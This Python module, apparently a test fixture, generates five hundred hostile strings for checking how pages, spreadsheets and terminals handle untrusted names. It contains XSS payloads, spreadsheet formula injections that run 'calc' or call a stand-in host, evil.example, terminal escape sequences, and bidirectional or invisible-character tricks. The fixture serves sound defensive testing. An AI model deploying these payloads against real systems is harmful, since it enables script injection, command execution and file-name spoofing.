"""Five hundred hostile texts: what a host or a ledger may be named so that a page, a spreadsheet or a terminal acts.

Families: HTML and attributes, script URLs, templates, spreadsheet formulas (also full-width and behind blanks, TAB and
CR), ANSI and other terminal sequences, bidirectional and invisible characters, breaks of lines, quotes and JSON.
"""

from __future__ import annotations

from itertools import product

MARK = "window.owned=1"
HTML = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg/onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f'<a href="javascript:{MARK}">x</a>',
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<body onload={MARK}>",
    f"<math><mtext></p><img src=x onerror={MARK}>",
    f"<style>@import 'http://evil.example/'</style><video><source onerror={MARK}>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><button>x",
    f"{{{{constructor.constructor('{MARK}')()}}}}",
    f"${{{MARK}}}",
    "{product} {0} %s %(x)s",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|'/c calc'!A1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=WEBSERVICE("http://evil.example/")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)
TERMINAL = (
    "\x1b[31mred",
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x1bP+q\x1b\\",
    "\x07\x08\x08\x08",
    "a\rb",
    "\x00nul",
    "\x7fdel",
    "\x85next",
)
UNSEEN = (
    "\u202egpj.exe",
    "\u2066x\u2069",
    "a\u200bb",
    "\ufeffx",
    "x\u2028y",
    "x\u2029y",
    "\u00adx",
    "\U000e0041",
    "\u061cx",
    "e\u0301\u0301\u0301",
)
KERNELS = (*HTML, *FORMULAS, *TERMINAL, *UNSEEN)
CARRIERS = (
    "{}",
    "WPS {}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "-->{}",
    "</script>{}",
    "</td>{}",
    "]]>{}",
)

PAYLOADS = tuple(carrier.replace("{}", kernel) for carrier, kernel in product(CARRIERS, KERNELS))[:500]
